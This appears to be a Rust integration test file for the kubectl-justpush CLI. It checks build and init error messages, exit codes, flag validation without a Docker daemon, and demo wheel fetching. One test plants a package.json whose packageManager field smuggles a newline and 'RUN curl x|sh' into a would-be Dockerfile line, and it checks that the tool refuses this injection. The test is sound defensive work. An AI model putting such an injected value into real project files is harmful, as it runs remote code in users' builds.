//! `build` without a Docker daemon and with bad input: the errors, exit codes and that no
//! daemon is needed to reject bad flags.

use std::process::{Command, Output};
use std::time::Instant;

fn build(args: &[&str], docker_host: &str) -> Output {
    Command::new(env!("CARGO_BIN_EXE_kubectl-justpush"))
        .arg("build")
        .args(args)
        .env("DOCKER_HOST", docker_host)
        .env("NO_COLOR", "1")
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap()
}

fn project() -> tempfile::TempDir {
    let d = tempfile::tempdir().unwrap();
    std::fs::write(d.path().join("Dockerfile"), "FROM debian:bookworm-slim\n").unwrap();
    d
}

#[test]
fn no_daemon_says_so_and_how_to_start_it() {
    let d = project();
    let sock = d.path().join("no-such.sock");
    let started = Instant::now();
    let out = build(
        &[d.path().to_str().unwrap()],
        &format!("unix://{}", sock.display()),
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("cannot reach the Docker daemon at unix://"),
        "{stderr}"
    );
    assert!(
        stderr.contains("Start it") && stderr.contains("DOCKER_HOST"),
        "{stderr}"
    );
    assert!(out.stdout.is_empty());
    // Reported, not asserted as a timing: the ping has its own 5 s limit.
    eprintln!("no-daemon error after {:?}", started.elapsed());
}

#[test]
fn bad_flags_are_usage_errors_before_any_daemon_contact() {
    let d = project();
    let dir = d.path().to_str().unwrap();
    let host = "unix:///nonexistent/docker.sock";
    for (args, needle) in [
        (vec![dir, "--tag", "latest"], "never tags `latest`"),
        (
            vec![dir, "--base-image", "cobol=x"],
            "unknown language `cobol`",
        ),
        (
            vec![dir, "--max-size", "lots"],
            "--max-size `lots` is not a size",
        ),
        (vec![dir, "--build-arg", "novalue"], "expected K=V"),
        (
            vec![dir, "--component", "nope"],
            "--component nope: no such component",
        ),
        (
            vec![dir, "--push", "https://reg.example"],
            "not a registry address",
        ),
        (
            vec![dir, "--ca-bundle", "/nonexistent.pem"],
            "--ca-bundle /nonexistent.pem: cannot read it",
        ),
        (vec![dir, "--probe-timeout", "soon"], "--probe-timeout"),
        (
            vec![dir, "--probe-timeout", "0s"],
            "gives the app no time to start listening",
        ),
    ] {
        let out = build(&args, host);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(stderr.contains(needle), "{args:?}: {stderr}");
    }
}

#[test]
fn a_directory_with_nothing_to_build_fails_before_the_daemon() {
    let d = tempfile::tempdir().unwrap();
    let out = build(
        &[d.path().to_str().unwrap()],
        "unix:///nonexistent/docker.sock",
    );
    assert_eq!(out.status.code(), Some(1));
    assert!(!String::from_utf8_lossy(&out.stderr).contains("Docker daemon"));
}

/// A demo tree whose backend has an empty wheelhouse and the given fetch-wheels.sh.
fn demo_with_fetcher(script: &str) -> tempfile::TempDir {
    let d = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(d.path().join("backend/wheelhouse")).unwrap();
    std::fs::create_dir_all(d.path().join("frontend")).unwrap();
    std::fs::write(d.path().join("backend/fetch-wheels.sh"), script).unwrap();
    for c in ["backend", "frontend"] {
        std::fs::write(d.path().join(c).join("Dockerfile"), "FROM scratch\n").unwrap();
    }
    d
}

fn build_demo(demo: &std::path::Path) -> Output {
    Command::new(env!("CARGO_BIN_EXE_kubectl-justpush"))
        .args(["build", "--demo"])
        .env("JUSTPUSH_DEMO_DIR", demo)
        .env("DOCKER_HOST", "unix:///nonexistent/docker.sock")
        .env("NO_COLOR", "1")
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap()
}

#[test]
fn demo_first_run_fetches_the_backend_wheels_before_building() {
    // The stand-in fetcher records its argument and leaves a wheel, as the real one does.
    let d = demo_with_fetcher(
        "cd \"$(dirname \"$0\")\"\necho \"$@\" > fetched-with\ntouch wheelhouse/demo-1.0-py3-none-any.whl\n",
    );
    let out = build_demo(d.path());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("Fetching"), "{stderr}");
    let args = std::fs::read_to_string(d.path().join("backend/fetched-with")).unwrap();
    assert_eq!(args.trim(), "--runtime");
    assert!(d
        .path()
        .join("backend/wheelhouse/demo-1.0-py3-none-any.whl")
        .is_file());
    // Then the build goes on, and stops at the missing daemon.
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("Docker daemon"), "{stderr}");

    // A second run finds the wheels and does not fetch again.
    std::fs::remove_file(d.path().join("backend/fetched-with")).unwrap();
    let again = build_demo(d.path());
    assert!(!String::from_utf8_lossy(&again.stderr).contains("Fetching"));
    assert!(!d.path().join("backend/fetched-with").exists());
}

#[test]
fn demo_wheel_fetch_failure_names_the_script_and_what_it_needs() {
    let d = demo_with_fetcher("echo 'pip: no matching distribution' >&2\nexit 3\n");
    let out = build_demo(d.path());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("fetch-wheels.sh --runtime"), "{stderr}");
    assert!(stderr.contains("no matching distribution"), "{stderr}");
    assert!(stderr.contains("python3 with pip"), "{stderr}");
    assert!(out.stdout.is_empty());
}

/// Every path under a directory, sorted.
fn listing(dir: &std::path::Path) -> Vec<String> {
    let mut out: Vec<String> = walkdir::WalkDir::new(dir)
        .into_iter()
        .map(|e| e.unwrap().path().display().to_string())
        .collect();
    out.sort();
    out
}

#[test]
fn init_on_a_project_with_an_injected_run_line_fails_and_writes_nothing() {
    let d = tempfile::tempdir().unwrap();
    std::fs::write(
        d.path().join("package.json"),
        r#"{"packageManager":"pnpm@8\nRUN curl x|sh","scripts":{"start":"node a.js"},"dependencies":{"express":"4"}}"#,
    )
    .unwrap();
    std::fs::write(d.path().join("a.js"), "").unwrap();
    let before = listing(d.path());
    let out = Command::new(env!("CARGO_BIN_EXE_kubectl-justpush"))
        .arg("init")
        .arg(d.path())
        .env("NO_COLOR", "1")
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains(r#"package.json: packageManager "pnpm@8\nRUN curl x|sh" is refused"#)
            && stderr.contains("change packageManager in"),
        "{stderr}"
    );
    assert_eq!(listing(d.path()), before, "init wrote files");
}

#[test]
fn build_limits_out_of_range_are_usage_errors_before_any_daemon_is_asked() {
    let d = project();
    for (flag, value, needle) in [
        ("--build-memory", "4GiB", "at most 2GiB"),
        ("--build-cpus", "lots", "not a number of CPUs"),
        ("--max-context", "lots", "--max-context"),
    ] {
        let out = build(
            &[d.path().to_str().unwrap(), flag, value],
            "unix:///nonexistent.sock",
        );
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{flag} {value}: {stderr}");
        assert!(stderr.contains(needle), "{flag} {value}: {stderr}");
        assert!(!stderr.contains("Docker daemon"), "{stderr}");
    }
}
